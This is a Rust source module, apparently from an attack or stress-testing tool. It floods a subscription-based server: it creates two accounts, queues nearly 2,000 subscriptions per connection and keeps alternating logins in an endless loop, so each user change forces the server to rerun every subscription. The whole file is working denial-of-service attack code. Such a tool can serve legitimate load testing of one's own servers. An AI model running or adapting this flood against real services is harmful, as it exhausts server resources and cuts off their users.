//! A session with many subscriptions whose user changes: each change runs all of them again.

use serde_json::{Value, json};

use crate::Failure;
use crate::attack::Attack;

/// Almost as many as a session may have.
const SUBSCRIPTIONS: usize = 1_990;

/// Fewer than the limit of a connection, which begins again with the next one.
const LOGINS_PER_CONNECTION: usize = 4;

pub(super) fn flood(attack: &Attack) {
    let Some(logins) = attack.attempt(|| sign_up(attack)) else { return };
    loop {
        let mut client = attack.client();
        (0..SUBSCRIPTIONS).for_each(|_| client.queue_subscription("settings:public"));
        for login in logins.iter().cycle().take(LOGINS_PER_CONNECTION) {
            attack.attempt(|| client.call("login", login));
        }
    }
}

/// Creates two users, and returns the parameters with which each logs in.
fn sign_up(attack: &Attack) -> Result<[String; 2], Failure> {
    let mut client = attack.client();
    let mut create = |username: &str| {
        let options = json!([{ "username": username, "password": "a password" }]).to_string();
        let login: Value = serde_json::from_str(&client.call("createUser", &options)?)?;
        Ok::<_, Failure>(json!([{ "resume": login["token"] }]).to_string())
    };
    Ok([create("subscriber")?, create("other")?])
}
